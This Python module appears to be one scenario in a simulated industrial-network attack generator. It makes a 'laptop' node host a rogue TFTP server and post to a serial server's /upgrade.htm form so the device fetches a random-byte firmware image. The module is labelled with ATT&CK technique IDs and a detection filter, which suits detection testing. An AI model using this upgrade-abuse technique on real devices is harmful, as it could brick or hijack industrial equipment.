"""The serial server is made to fetch another firmware by TFTP from the laptop."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time

import requests

from ..devices.serial_server import ACKNOWLEDGE, BLOCK, DATA
from ..node import Node
from ..web import BROWSER

TITLE = "Serial server told over HTTP to fetch firmware by TFTP from a new device"
TECHNIQUES = ("T1693.001", "T0800")
ORIGIN = "laptop"
ENTITIES = ("laptop", "serial-server")
EVIDENCE = "tftp.opcode == 3 && ip.src == 10.20.1.99"

FILE_NAME = "NP5150A_1.99.rom"
BLOCKS = 120


def serve(node: Node, listener: socket.socket) -> None:
    """Send one file to whoever asks first."""
    _, client = listener.recvfrom(512)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2.0)
        for block in range(1, BLOCKS + 1):
            size = BLOCK if block < BLOCKS else 100
            sock.sendto(struct.pack("!HH", DATA, block) + node.rng.randbytes(size), client)
            code, acknowledged = struct.unpack("!HH", sock.recv(4))
            if (code, acknowledged) != (ACKNOWLEDGE, block):
                return


def run(node: Node) -> None:
    """Start the TFTP server, then order the upgrade."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind((node.ip, 69))
        listener.settimeout(5.0)
        server = threading.Thread(target=serve, args=(node, listener), daemon=True)
        server.start()
        with contextlib.suppress(requests.RequestException):
            requests.post(  # sent as a browser would, from the device's own form
                f"http://{node.peer('serial-server')}/upgrade.htm",
                timeout=3,
                headers=BROWSER,
                data={"server": node.ip, "file": FILE_NAME},
            )
        server.join(8.0)
    time.sleep(0.3)
